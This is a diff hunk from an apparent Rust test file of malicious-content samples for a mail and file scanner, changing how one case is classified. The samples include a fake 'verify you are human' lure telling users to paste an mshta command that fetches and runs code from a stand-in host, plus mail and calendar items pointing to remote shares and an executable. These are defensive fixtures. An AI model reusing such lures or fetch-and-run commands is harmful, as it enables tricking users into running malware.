@@ -92,7 +92,7 @@ fn messages() -> Vec<Standin> {
         new("A18", MAIL, "meeting.eml", "a mail that is one piece of a message", b"From: a@host.invalid\r\nTo: b@host.invalid\r\nSubject: Meeting\r\nMIME-Version: 1.0\r\nContent-Type: message/partial; number=1; total=2; id=\"a@host.invalid\"\r\n\r\nU2VlIHlvdQ==\r\n".to_vec()).incomplete("one piece of a message").held(),
         new("A18", MAIL, "meeting.eml", "a mail whose page for AMP searches another machine", mail("text/x-amp-html", "<!doctype html><html amp4email><a href=\"search-ms:query=a&amp;crumb=location:\\\\host.invalid\\share\">more</a></html>")).part("body.html", "html"),
         new("A18", MAIL, "meeting.eml", "an invitation in a mail that leads to a program on a share", mail("text/calendar; method=REQUEST", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nATTACH:file://host.invalid/share/a.exe\r\nEND:VEVENT\r\nEND:VCALENDAR")).part("body#2", "ics"),
-        new("A17", PAGES, "note.txt", "a text that gives a reason and shows a command", b"To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a\n".to_vec()).finds("page.click-fix").held(),
+        new("A17", PAGES, "note.txt", "a text that gives a reason and shows a command", b"To verify you are human press Win+R, Ctrl+V and Enter:\nmshta https://host.invalid/a\n".to_vec()).finds("script.download-and-run").blocked(),
     ]
 }
 
